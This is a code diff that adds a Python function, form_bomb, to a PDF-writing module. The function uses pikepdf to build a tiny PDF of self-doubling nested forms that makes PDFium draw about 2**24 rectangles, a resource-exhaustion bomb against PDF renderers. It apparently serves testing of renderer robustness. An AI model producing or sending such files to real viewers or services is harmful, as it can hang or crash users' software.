@@ -80,3 +80,24 @@ def write_pdf(images, target: Path, dpi: int) -> Path:
     target.parent.mkdir(parents=True, exist_ok=True)
     target.write_bytes(img2pdf.convert(parts))
     return target
+
+
+def form_bomb(target: Path, depth: int = 24) -> None:
+    """A 2 KB page of forms that each draw the next twice: 2**depth rectangles for PDFium."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(595, 842))
+    current = pdf.make_stream(b"0 0 1 1 re f")
+    current.Type, current.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
+    current.BBox = [0, 0, 595, 842]
+    for _ in range(depth):
+        form = pdf.make_stream(b"/X Do /X Do")
+        form.Type, form.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
+        form.BBox = [0, 0, 595, 842]
+        form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=current))
+        current = form
+    page = pdf.pages[0]
+    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=current))
+    page.Contents = pdf.make_stream(b"/X Do")
+    pdf.save(target)
